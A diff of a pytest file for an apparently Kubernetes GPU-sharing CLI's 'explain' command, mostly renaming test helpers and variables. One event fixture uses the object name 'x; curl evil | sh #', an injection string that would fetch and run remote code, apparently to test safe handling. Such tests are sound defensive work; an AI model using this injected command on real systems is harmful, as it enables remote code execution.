@@ -19,7 +19,7 @@ def owned(pod: Json, kind: str, name: str, **labels: str) -> Json:
     return pod | {"metadata": pod["metadata"] | {"ownerReferences": [owner], "labels": labels}}
 
 
-def made(name: str, namespace: str = "team-a", *, owner: str = "") -> Json:
+def workload_object(name: str, namespace: str = "team-a", *, owner: str = "") -> Json:
     metadata: Json = {"name": name, "namespace": namespace, "uid": name}
     if owner:
         metadata["ownerReferences"] = [{"kind": "x", "name": owner, "uid": owner, "controller": True}]
@@ -31,11 +31,11 @@ def api() -> Cluster:
     """`web` is a Deployment with one pod that runs and two that wait; `train` is a Job that may make none."""
     api = lists()
     limits = {"aliyun.com/gpu-mem": "20000", "cardwise.dev/share": "1"}
-    api.add("deployments", made("web"))
-    api.add("replicasets", made("web-1", owner="web"))
+    api.add("deployments", workload_object("web"))
+    api.add("replicasets", workload_object("web-1", owner="web"))
     api.add("pods", owned(placed("team-a", "web-1-a", "n1", 1, 100), "ReplicaSet", "web-1"))
     api.add("pods", *(owned(waiting("team-a", f"web-1-{x}", limits), "ReplicaSet", "web-1") for x in "bc"))
-    api.add("jobs", made("big"))
+    api.add("jobs", workload_object("big"))
     refused = {"reason": "FailedCreate", "message": "admission webhook denied the request: too much"}
     about = {"kind": "Job", "namespace": "team-a", "name": "big", "uid": "big"}
     event = {"metadata": {"name": "e", "namespace": "team-a"}, "involvedObject": about}
@@ -48,9 +48,9 @@ def api() -> Cluster:
     [["deploy/web"], ["deployment", "web"], ["deployments.apps/web"], ["web"], ["Deployment/web"]],
 )
 def test_a_workload_is_explained_by_its_pods_and_the_first_that_waits(monkeypatch, api, words):
-    said = run(monkeypatch, api, "explain", *words, "-n", "team-a").output
-    assert "deployment team-a/web has 3 pods: 2 waiting, 1 starting.\n" in said
-    assert "pod team-a/web-1-b asks for 20000 MiB" in said
+    output = run(monkeypatch, api, "explain", *words, "-n", "team-a").output
+    assert "deployment team-a/web has 3 pods: 2 waiting, 1 starting.\n" in output
+    assert "pod team-a/web-1-b asks for 20000 MiB" in output
 
 
 def test_a_pod_of_a_scheduler_that_has_gone_is_told_from_one_of_a_scheduler_that_is_there(monkeypatch, api):
@@ -62,7 +62,7 @@ def test_a_pod_of_a_scheduler_that_has_gone_is_told_from_one_of_a_scheduler_that
     api.forbid("deployments")
     assert gone not in run(monkeypatch, api, "explain", "left", "-n", "team-a").output, "nobody knows"
     api.forbid()
-    api.add("deployments", made(names.SCHEDULER, names.NAMESPACE))
+    api.add("deployments", workload_object(names.SCHEDULER, names.NAMESPACE))
     assert gone not in run(monkeypatch, api, "explain", "left", "-n", "team-a").output
     renamed = {"annotations": {names.SCHEDULER_NAME: "gpus"}}
     api.change("deployments", names.SCHEDULER, names.NAMESPACE, metadata=renamed)
@@ -71,8 +71,8 @@ def test_a_pod_of_a_scheduler_that_has_gone_is_told_from_one_of_a_scheduler_that
 
 def test_who_is_asked_to_end_a_pod_hears_that_nobody_recreates_it(monkeypatch, api):
     def ends() -> str:
-        said = run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
-        return next(line for line in said.splitlines() if "these ended" in line)
+        output = run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
+        return next(line for line in output.splitlines() if "these ended" in line)
 
     api.change(
         "pods", "web-1-b", "team-a", spec=waiting("", "", {"aliyun.com/gpu-mem": "14000", names.SHARE: "1"})["spec"]
@@ -87,10 +87,10 @@ def test_who_is_asked_to_end_a_pod_hears_that_nobody_recreates_it(monkeypatch, a
 
 def test_a_workload_names_the_nodes_of_its_pods_that_do_not_report(monkeypatch, api):
     api.change("nodes", "n1", status={"conditions": [{"type": "Ready", "status": "Unknown"}]})
-    said = run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a").stdout
+    output = run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a").stdout
     assert (
         "Node n1 is NotReady (its kubelet does not report), so that what they say of themselves may be old: web-1-a.\n"
-        in said
+        in output
     )
 
 
@@ -98,21 +98,21 @@ def test_a_scheduler_of_the_chart_without_a_ready_pod_is_said_to_place_nothing(m
     pod = waiting("team-a", "left", {"aliyun.com/gpu-mem": "2000", "cardwise.dev/share": "1"})
     pod["spec"]["schedulerName"] = names.SCHEDULER
     api.add("pods", pod)
-    api.add("deployments", made(names.SCHEDULER, names.NAMESPACE))
-    said = run(monkeypatch, api, "explain", "left", "-n", "team-a").stdout
-    assert "It is left to the scheduler cardwise-scheduler, which does not run: the Deployment" in said
-    assert "that fit are free" not in said
+    api.add("deployments", workload_object(names.SCHEDULER, names.NAMESPACE))
+    output = run(monkeypatch, api, "explain", "left", "-n", "team-a").stdout
+    assert "It is left to the scheduler cardwise-scheduler, which does not run: the Deployment" in output
+    assert "that fit are free" not in output
     api.change("deployments", names.SCHEDULER, names.NAMESPACE, status={"readyReplicas": 1})
-    said = run(monkeypatch, api, "explain", "left", "-n", "team-a").stdout
-    assert "It is left to the scheduler" not in said
-    assert "that fit are free" in said
+    output = run(monkeypatch, api, "explain", "left", "-n", "team-a").stdout
+    assert "It is left to the scheduler" not in output
+    assert "that fit are free" in output
 
 
 def test_a_pod_that_outlived_an_uninstallation_hears_of_it(monkeypatch, api):
     api.replace("extendedresources")
     api.replace("resourceclasses")
-    said = run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
-    assert "No extender of Cardwise has ever led here, so that no pod gets a card: Cardwise is not installed" in said
+    output = run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
+    assert "No extender of Cardwise has ever led here, so that no pod gets a card: Cardwise is not installed" in output
     lease = {"metadata": {"namespace": names.NAMESPACE, "name": names.LEASE}, "spec": {}}
     api.add("leases", lease)
     assert "has ever led" not in run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
@@ -121,20 +121,22 @@ def test_a_pod_that_outlived_an_uninstallation_hears_of_it(monkeypatch, api):
 
 
 def test_pods_bound_by_hand_are_not_blamed_on_a_scheduler_that_asks(monkeypatch, api):
-    api.add("events", told("BoundWithoutExtender", "deleted: ...", "2026-11-28T05:00:00Z", "Pod", "by-hand"))
+    api.add("events", event_about("BoundWithoutExtender", "deleted: ...", "2026-11-28T05:00:00Z", "Pod", "by-hand"))
     blame = "kube-scheduler does not ask the extender"
     assert blame in run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
     condition = {"type": "PodScheduled", "status": "False", "message": f"0/2 nodes: 2 {Refusal.NO_MEMORY.text}."}
     api.change("pods", "web-1-b", "team-a", status={"conditions": [condition]})
-    said = run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
-    assert "Something other than Cardwise's extender has bound pods of this namespace within the hour (by-hand)" in said
-    assert "The scheduler of this pod does ask the extender." in said
-    assert blame not in said
+    output = run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
+    assert (
+        "Something other than Cardwise's extender has bound pods of this namespace within the hour (by-hand)" in output
+    )
+    assert "The scheduler of this pod does ask the extender." in output
+    assert blame not in output
 
 
 def test_a_pod_that_does_not_start_says_its_own_last_warning(monkeypatch, api):
     def warning(at: str, reason: str, uid: str = "team-a-web-1-a") -> Json:
-        event = told(reason, f"{reason} of web-1-a", f"2026-11-28T05:00:0{at}Z", "Pod", "web-1-a")
+        event = event_about(reason, f"{reason} of web-1-a", f"2026-11-28T05:00:0{at}Z", "Pod", "web-1-a")
         event["involvedObject"]["uid"] = uid
         return event | {"type": "Warning"}
 
@@ -143,18 +145,18 @@ def test_a_pod_that_does_not_start_says_its_own_last_warning(monkeypatch, api):
     former = warning("9", "FailedMount", "of a former pod of this name")
     api.add("events", warning("1", "FailedMount"), warning("2", "FailedAttachVolume"), former)
     api.add("events", warning("3", "FailedScheduling"), warning("4", "BackOff") | {"type": "Normal"})
-    said = run(monkeypatch, api, "explain", "web-1-a", "-n", "team-a").stdout
+    output = run(monkeypatch, api, "explain", "web-1-a", "-n", "team-a").stdout
     line = "  its last warning (FailedAttachVolume, 2026-11-28T05:00:02Z): FailedAttachVolume of web-1-a\n"
-    assert line in said
+    assert line in output
     api.change("pods", "web-1-a", "team-a", status={"phase": "Running"})
     assert "last warning" not in run(monkeypatch, api, "explain", "web-1-a", "-n", "team-a").stdout
 
 
 @pytest.mark.parametrize("words", [["deploy/"], ["deploy", ""], ["/"], [""], ["deploy/web", "x"]])
 def test_words_that_name_nothing_are_told(monkeypatch, api, words):
-    said = run(monkeypatch, api, "explain", *words, "-n", "team-a")
-    assert said.exit_code == 2
-    assert "name one thing: NAME, KIND NAME or KIND/NAME" in said.output
+    completed = run(monkeypatch, api, "explain", *words, "-n", "team-a")
+    assert completed.exit_code == 2
+    assert "name one thing: NAME, KIND NAME or KIND/NAME" in completed.output
 
 
 def test_without_rights_nobody_hears_that_there_is_no_such_pod(monkeypatch, api):
@@ -164,8 +166,8 @@ def test_without_rights_nobody_hears_that_there_is_no_such_pod(monkeypatch, api)
 
 
 def test_a_workload_without_pods_says_who_refuses_them(monkeypatch, api):
-    said = run(monkeypatch, api, "explain", "job/big", "-n", "team-a").output
-    assert "job team-a/big has no pod.\nKubernetes could not create one: admission webhook denied" in said
+    output = run(monkeypatch, api, "explain", "job/big", "-n", "team-a").output
+    assert "job team-a/big has no pod.\nKubernetes could not create one: admission webhook denied" in output
 
 
 @pytest.mark.parametrize("words", [["pod", "web-1-b"], ["pod/web-1-b"], ["po/web-1-b"], ["web-1-b"]])
@@ -174,8 +176,8 @@ def test_a_pod_by_any_words(monkeypatch, api, words):
 
 
 def test_for_programs(monkeypatch, api):
-    said = json.loads(run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a", "-o", "json").stdout)
-    assert (said["pods"], said["first"]["name"]) == ({"waiting": 2, "starting": 1}, "web-1-b")
+    document = json.loads(run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a", "-o", "json").stdout)
+    assert (document["pods"], document["first"]["name"]) == ({"waiting": 2, "starting": 1}, "web-1-b")
 
 
 def test_what_is_not_there_or_no_kind_is_told(monkeypatch, api):
@@ -207,15 +209,15 @@ def test_former_replicas_are_of_the_same_deployment_and_another_template_and_fel
 
 def test_pods_that_are_ending_are_not_among_those_that_should_end(monkeypatch, api):
     api.add("pods", waiting("team-a", "p", {"aliyun.com/gpu-mem": "16000", "cardwise.dev/share": "1"}))
-    said = run(monkeypatch, api, "explain", "p", "-n", "team-a").output
-    assert "  - these ended (card 1 of n1, 3893 MiB short): " in said
-    assert "team-b/big (4069 MiB)" in said.rpartition("these ended")[2]
+    output = run(monkeypatch, api, "explain", "p", "-n", "team-a").output
+    assert "  - these ended (card 1 of n1, 3893 MiB short): " in output
+    assert "team-b/big (4069 MiB)" in output.rpartition("these ended")[2]
     for name, namespace in (("big", "team-b"), ("web-1-a", "team-a")):
         api.change("pods", name, namespace, metadata={"deletionTimestamp": "2026-11-28T05:00:00Z"})
-    said = run(monkeypatch, api, "explain", "p", "-n", "team-a").output
-    assert "these ended" not in said
-    assert "  - what is ending on n1 is gone: nobody else has to go\n" in said
-    assert "held by team-a/web-1-a (100 MiB, is ending), team-b/big (4069 MiB, is ending)\n" in said
+    output = run(monkeypatch, api, "explain", "p", "-n", "team-a").output
+    assert "these ended" not in output
+    assert "  - what is ending on n1 is gone: nobody else has to go\n" in output
+    assert "held by team-a/web-1-a (100 MiB, is ending), team-b/big (4069 MiB, is ending)\n" in output
 
 
 @pytest.mark.parametrize("command", ["quota", "gangs", "explain"])
@@ -232,8 +234,8 @@ def test_a_namespace_that_does_not_exist_is_said_to_be_so(monkeypatch, api, comm
 
 def test_what_the_extender_keeps_back_of_each_card_is_not_free(monkeypatch, api):
     def free() -> int:
-        said = json.loads(run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a", "-o", "json").stdout)
-        return said["nodes"][0]["cards"][0]["freeMiB"]
+        document = json.loads(run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a", "-o", "json").stdout)
+        return document["nodes"][0]["cards"][0]["freeMiB"]
 
     before = free()
     data = CardLimits(kept_back=MiB(700)).written()
@@ -241,7 +243,7 @@ def test_what_the_extender_keeps_back_of_each_card_is_not_free(monkeypatch, api)
     assert free() == before - 700
 
 
-def told(reason: str, message: str, at: str, kind: str, name: str) -> Json:
+def event_about(reason: str, message: str, at: str, kind: str, name: str) -> Json:
     metadata = {"namespace": "team-a", "name": f"{name}.{at}"}
     about = {"kind": kind, "namespace": "team-a", "name": name, "uid": name}
     return {"metadata": metadata, "involvedObject": about, "reason": reason, "message": message, "lastTimestamp": at}
@@ -250,17 +252,19 @@ def told(reason: str, message: str, at: str, kind: str, name: str) -> Json:
 def test_of_a_pod_that_is_gone_the_last_events_are_told(monkeypatch, api):
     api.add(
         "events",
-        told("Scheduled", "Successfully assigned", "2026-11-28T05:00:00Z", "Pod", "web-1-z"),
-        told("BoundWithoutExtender", "deleted: it asks for GPU cards", "2026-11-28T05:00:02Z", "Pod", "web-1-z"),
-        told("SuccessfulDelete", "Deleted pod: web-1-z", "2026-11-28T05:00:03Z", "ReplicaSet", "web-1"),
-        told("SuccessfulDelete", "Deleted pod: web-1-zz", "2026-11-28T05:00:04Z", "ReplicaSet", "web-1"),
-        told("Killing", "of a node of this name", "2026-11-28T05:00:05Z", "Node", "web-1-z"),
-        told("SuccessfulDelete", "Deleted pod: web-1-z", "2026-11-28T05:00:06Z", "ReplicaSet", "x; curl evil | sh #"),
+        event_about("Scheduled", "Successfully assigned", "2026-11-28T05:00:00Z", "Pod", "web-1-z"),
+        event_about("BoundWithoutExtender", "deleted: it asks for GPU cards", "2026-11-28T05:00:02Z", "Pod", "web-1-z"),
+        event_about("SuccessfulDelete", "Deleted pod: web-1-z", "2026-11-28T05:00:03Z", "ReplicaSet", "web-1"),
+        event_about("SuccessfulDelete", "Deleted pod: web-1-zz", "2026-11-28T05:00:04Z", "ReplicaSet", "web-1"),
+        event_about("Killing", "of a node of this name", "2026-11-28T05:00:05Z", "Node", "web-1-z"),
+        event_about(
+            "SuccessfulDelete", "Deleted pod: web-1-z", "2026-11-28T05:00:06Z", "ReplicaSet", "x; curl evil | sh #"
+        ),
     )
     for words in (["web-1-z"], ["pod/web-1-z"]):
-        said = run(monkeypatch, api, "explain", *words, "-n", "team-a")
-        assert said.exit_code == 0
-        *events, advice, owner = said.stdout.splitlines()
+        completed = run(monkeypatch, api, "explain", *words, "-n", "team-a")
+        assert completed.exit_code == 0
+        *events, advice, owner = completed.stdout.splitlines()
         assert events == [
             "pod team-a/web-1-z is gone. Its last events:",
             "  2026-11-28T05:00:00Z Scheduled: Successfully assigned",
@@ -272,7 +276,7 @@ def test_of_a_pod_that_is_gone_the_last_events_are_told(monkeypatch, api):
         )
         assert owner == "What its ReplicaSet does now: cardwise explain -n team-a replicaset/web-1"
     programs = json.loads(run(monkeypatch, api, "explain", "web-1-z", "-n", "team-a", "-o", "json").stdout)
-    assert (programs["phase"], programs["text"]) == ("Gone", said.stdout.splitlines())
+    assert (programs["phase"], programs["text"]) == ("Gone", completed.stdout.splitlines())
     assert "there is no job 'web-1-z'" in run(monkeypatch, api, "explain", "job/web-1-z", "-n", "team-a").output
     api.forbid("events")
     assert "there is no pod or workload" in run(monkeypatch, api, "explain", "web-1-z", "-n", "team-a").output
@@ -280,7 +284,7 @@ def test_of_a_pod_that_is_gone_the_last_events_are_told(monkeypatch, api):
 
 def test_a_refusal_of_pods_is_no_news_once_all_of_them_are_there(monkeypatch, api):
     message = 'Error creating: pods "web-1-x7k2p" is forbidden: exceeded quota: gpus'
-    api.add("events", told("FailedCreate", message, "2026-11-28T05:00:00Z", "ReplicaSet", "web-1"))
+    api.add("events", event_about("FailedCreate", message, "2026-11-28T05:00:00Z", "ReplicaSet", "web-1"))
     api.change("deployments", "web", "team-a", spec={"replicas": 4})
     refused = "Kubernetes could not create one: exceeded quota: gpus\n"
     assert refused in run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a").stdout
@@ -292,8 +296,8 @@ def test_a_refusal_older_than_its_event_is_read_from_the_condition(monkeypatch, 
     api.replace("pods")
     failure = {"type": "ReplicaFailure", "status": "True", "message": "pods are forbidden: exceeded quota"}
     api.change("replicasets", "web-1", "team-a", status={"conditions": [failure]})
-    said = run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a").stdout
-    head, refusal, retry = said.splitlines()
+    output = run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a").stdout
+    head, refusal, retry = output.splitlines()
     assert head == "deployment team-a/web has no pod."
     assert refusal == "Kubernetes could not create one: pods are forbidden: exceeded quota"
     assert "`kubectl annotate -n team-a replicaset web-1 retried-at=$(date +%s) --overwrite`" in retry
@@ -304,23 +308,26 @@ def test_who_made_a_pod_before_the_webhook_was_there_is_told_from_who_made_it_wh
     unwritten["metadata"] |= {"creationTimestamp": "2026-06-01T00:00:00Z"}
     api.add("pods", unwritten)
 
-    def said() -> str:
+    def explanation() -> str:
         return run(monkeypatch, api, "explain", "p", "-n", "team-a").stdout
 
-    assert "The webhook is not registered: your administrator runs `cardwise doctor`. Once it is, no contr" in said()
+    assert (
+        "The webhook is not registered: your administrator runs `cardwise doctor`. Once it is, no contr"
+        in explanation()
+    )
     configuration = {"name": names.WEBHOOK_CONFIGURATION, "creationTimestamp": "2026-06-02T00:00:00Z"}
     api.add("mutatingwebhookconfigurations", {"metadata": configuration})
     before = "It was created at 2026-06-01T00:00:00Z, before the webhook was registered (at 2026-06-02T00:00:00Z): "
     recreate = "`kubectl get pod -n team-a p -o yaml > p.yaml && kubectl replace --force -f p.yaml`"
-    assert f"{before}no controller makes another, so {recreate} saves it to p.yaml, deletes it and cr" in said()
+    assert f"{before}no controller makes another, so {recreate} saves it to p.yaml, deletes it and cr" in explanation()
     api.replace("mutatingwebhookconfigurations")
     arguments = ["--exempt-namespaces=kube-system,team-a"]
-    webhook = made("cardwise-webhook", names.NAMESPACE)
+    webhook = workload_object("cardwise-webhook", names.NAMESPACE)
     webhook["spec"] = {"template": {"spec": {"containers": [{"args": arguments}]}}}
     api.add("deployments", webhook)
-    assert "Namespace team-a is exempt from the webhook" in said(), "also while its configuration is missing"
+    assert "Namespace team-a is exempt from the webhook" in explanation(), "also while its configuration is missing"
     api.forbid("mutatingwebhookconfigurations")
-    assert "while the webhook was not registered, or its namespace is exempt from it (webhook.exempt" in said()
+    assert "while the webhook was not registered, or its namespace is exempt from it (webhook.exempt" in explanation()
 
 
 def test_who_may_view_one_namespace_hears_of_its_quotas_what_cardwise_quota_says(monkeypatch, api):
@@ -332,13 +339,13 @@ def test_who_may_view_one_namespace_hears_of_its_quotas_what_cardwise_quota_says
     of_quota = run(monkeypatch, api, "quota", "-n", "team-a").stdout
     assert "2/2" in of_quota
     assert "13441/32768" in of_quota
-    said = run(monkeypatch, api, "explain", "typed", "-n", "team-a").stdout
+    output = run(monkeypatch, api, "explain", "typed", "-n", "team-a").stdout
     closed = f"GPUQuota team closes {K80_CLASS}: 2 of 2 shares used, 1 asked, 1 of 1 whole cards used, 1 asked.\n"
-    assert closed in said
-    assert "GPUQuota team on all cards: 13441 of 32768 MiB used.\n" in said
-    said = run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
-    assert f"GPUQuota team on {K80_CLASS}: 2 of 2 shares used, 1 of 1 whole cards used.\n" in said
-    assert "GPUQuota team closes all cards: 13441 of 32768 MiB used, 20000 asked.\n" in said
+    assert closed in output
+    assert "GPUQuota team on all cards: 13441 of 32768 MiB used.\n" in output
+    output = run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
+    assert f"GPUQuota team on {K80_CLASS}: 2 of 2 shares used, 1 of 1 whole cards used.\n" in output
+    assert "GPUQuota team closes all cards: 13441 of 32768 MiB used, 20000 asked.\n" in output
     api.forbid("extendedresources", "gpuquotas")
     assert "GPUQuota" not in run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
 
@@ -351,25 +358,27 @@ def test_a_daemonsets_pod_hears_of_its_own_node_alone(monkeypatch, api):
     api.replace("extendedresources", card("n1", 0), card("n2", 1))
     api.replace("gpuquotas")
     api.add("pods", pod)
-    said = run(monkeypatch, api, "explain", "ds-x", "-n", "team-a").stdout
-    assert "It is for node n1 only: its DaemonSet makes one for each node that its template admits.\n" in said
-    assert "these ended (card 0 of n1, 2559 MiB short): " in said
-    assert "n2" not in said
-    assert "keep away" not in said
+    output = run(monkeypatch, api, "explain", "ds-x", "-n", "team-a").stdout
+    assert "It is for node n1 only: its DaemonSet makes one for each node that its template admits.\n" in output
+    assert "these ended (card 0 of n1, 2559 MiB short): " in output
+    assert "n2" not in output
+    assert "keep away" not in output
     programs = json.loads(run(monkeypatch, api, "explain", "ds-x", "-n", "team-a", "-o", "json").stdout)
     assert [node["name"] for node in programs["nodes"]] == ["n1"]
     api.replace("extendedresources", card("n2", 1))
-    said = run(monkeypatch, api, "explain", "ds-x", "-n", "team-a").stdout
-    assert "Node n1 has no card or device that Cardwise gives: a nodeSelector in the DaemonSet's template keeps" in said
-    assert "would run" not in said
+    output = run(monkeypatch, api, "explain", "ds-x", "-n", "team-a").stdout
+    assert (
+        "Node n1 has no card or device that Cardwise gives: a nodeSelector in the DaemonSet's template keeps" in output
+    )
+    assert "would run" not in output
 
 
 def test_pods_that_vanish_are_told_of_their_own_workload_alone(monkeypatch, api):
     api.replace("pods")
     for i, name in enumerate(("web-1-x9z", "web-1-api-x9z", "web-10-x9z")):
-        api.add("events", told("BoundWithoutExtender", "deleted: ...", f"2026-11-28T05:00:0{i}Z", "Pod", name))
-    said = run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a").stdout
-    assert "The extender has deleted pods of it within the hour (web-1-x9z): something other than Cardwise" in said
+        api.add("events", event_about("BoundWithoutExtender", "deleted: ...", f"2026-11-28T05:00:0{i}Z", "Pod", name))
+    output = run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a").stdout
+    assert "The extender has deleted pods of it within the hour (web-1-x9z): something other than Cardwise" in output
 
 
 def test_a_gang_that_could_never_start_is_told_by_the_cluster_it_is_in(monkeypatch, api):
